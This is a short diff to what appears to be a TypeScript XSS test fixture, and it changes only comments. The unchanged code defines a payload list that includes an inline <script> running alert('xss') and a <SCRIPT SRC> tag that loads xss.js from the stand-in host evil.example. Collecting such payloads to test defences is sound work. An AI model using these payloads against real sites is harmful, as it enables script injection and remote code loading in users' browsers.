@@ -1,8 +1,11 @@
-/** Effects of the payloads: set a flag the test checks, open a dialog, or send a request to an external host. */
+/**
+ * What a payload does when it runs: it sets a flag that the test checks, opens a dialog, or sends a request to an
+ * external host.
+ */
 const act = "(window.ran=window.ran||[]).push('ran');alert('xss')";
 const outside = 'https://evil.example';
 
-/** Ways to turn markup into script, a request or a frame, from well-known XSS lists; each has a detectable effect. */
+/** Ways to turn markup into script, a request or a frame, from well-known XSS lists. */
 export const payloads: readonly string[] = [
   `<script>${act}</script>`,
   `<SCRIPT SRC=${outside}/xss.js></SCRIPT>`,
